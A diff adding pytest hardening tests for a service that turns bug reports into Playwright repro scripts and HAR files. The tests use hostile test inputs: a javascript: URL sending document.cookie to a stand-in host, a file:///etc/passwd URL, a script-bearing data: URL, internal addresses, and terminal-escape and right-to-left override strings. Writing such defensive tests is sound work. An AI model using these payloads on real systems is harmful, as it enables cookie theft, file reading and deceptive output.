@@ -191,6 +191,80 @@ def test_the_playwright_test_replays_in_order_and_never_runs_captured_text(team)
     assert spec.startswith("// WS-1: Coupon */ refused\n")
 
 
+def spec_of(team, report) -> str:
+    response = team.get(f"/api/v1/reports/{report['id']}/repro.spec.ts")
+    assert response.status_code == 200
+    return response.get_data(as_text=True)
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["file:///etc/passwd", "javascript:fetch('//evil.test/'+document.cookie)",
+     "data:text/html,<script>alert(1)</script>", "http://127.0.0.1:9/admin",
+     "http://intranet.corp/wiki", "https://shop.test.evil.test/", "chrome://settings"],
+)  # fmt: skip
+def test_the_playwright_test_opens_only_http_addresses_of_the_allowed_origins(team, app, address):
+    """Hardening 4, item 2: the reporter names the address; the developer's machine opens it."""
+    allowed = {"settings": {"allowed_origins": ["https://shop.test", "http://localhost:8080"]}}
+    changed = team.patch(f"/api/v1/projects/{team.project['id']}", json=allowed,
+                         headers=csrf(team))  # fmt: skip
+    assert changed.status_code == 200
+    spec = spec_of(team, file(team, metadata={"url": address}))
+    assert spec.splitlines()[1:3] == [
+        "// Its steps come from the reporter, who may be anyone holding the project's public key:",
+        "// read them before you run it with real credentials or a signed-in storageState.",
+    ]
+    assert "page.goto(" not in spec.replace("// Fill in the page's address: await page.goto(", "")
+    assert "// Not opened: only http(s) addresses of the project's allowed origins are." in spec
+
+    for opened in ("https://shop.test/cart?x=1", "http://localhost:8080/", "HTTPS://SHOP.TEST/"):
+        spec = spec_of(team, file(team, metadata={"url": opened}))
+        assert f"  await page.goto({json.dumps(opened)});" in spec.splitlines()
+    # A project that lists no origins: any http(s) address, still never another scheme.
+    team.patch(f"/api/v1/projects/{team.project['id']}", json={"settings": {"allowed_origins": []}},
+               headers=csrf(team))  # fmt: skip
+    spec = spec_of(team, file(team, metadata={"url": "http://127.0.0.1:9/admin"}))
+    assert '  await page.goto("http://127.0.0.1:9/admin");' in spec.splitlines()
+    assert 'page.goto("file:' not in spec_of(team, file(team, metadata={"url": "file:///x"}))
+
+
+def test_a_navigation_without_a_target_asserts_nothing(team):
+    actions = [{"type": "navigation", "target": "", "timestamp": T0,
+                "data": {"from": "https://shop.test/", "via": "pushState"}}]  # fmt: skip
+    spec = spec_of(team, file(team, user_actions=actions))
+    assert 'toHaveURL("")' not in spec and 'await page.goto("https://shop.test/");' in spec
+
+
+# What a terminal or an editor acts on: C0 and C1 controls, DEL, bidirectional controls.
+CONTROLS = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
+)
+
+
+def test_no_control_character_reaches_the_test_or_the_har(team):
+    """Hardening 4, item 7: `ESC[1A` in a console message hid the line above it when the file
+    was `cat`ed; a right-to-left override reorders a line. Written as \\uXXXX text."""
+    hostile = "boom\x1b[1A\x1b[2K\u202egnp.exe\u2066\x9b2J\x7f\x07\u200f"
+    report = file(
+        team,
+        title=f"Title {hostile}",
+        console_logs=[{"level": "error", "message": hostile, "timestamp": T0}],
+        network_logs=[{"method": "GET", "url": f"https://shop.test/{hostile}", "status": 500,
+                       "timestamp": T0, "requestBody": hostile, "error": hostile}],
+        user_actions=[{"type": "click", "target": f"button#{hostile}", "timestamp": T0 + 1,
+                       "locator": {"role": "button", "name": hostile}},
+                      {"type": "input", "target": hostile, "timestamp": T0 + 2,
+                       "data": {"field": "select-one"}}],
+        metadata={"url": f"https://shop.test/?q={hostile}"},
+    )  # fmt: skip
+    spec = spec_of(team, report)
+    assert not CONTROLS.search(spec), [line for line in spec.splitlines() if CONTROLS.search(line)]
+    assert "// Console error: boom\\u001b[1A\\u001b[2K\\u202egnp.exe" in spec
+    har = team.get(f"/api/v1/reports/{report['id']}/har").get_data()
+    assert har.isascii() and not CONTROLS.search(har.decode())
+    assert json.loads(har)["log"]["comment"] == f"WS-1: Title {hostile}"
+
+
 # Any JSON, and the fields the kit reads given any JSON too: nothing the widget (or a script
 # with the API key) sends may break either download or put code into the test.
 # (The service refuses NUL and lone surrogates in any string before it stores a report.)
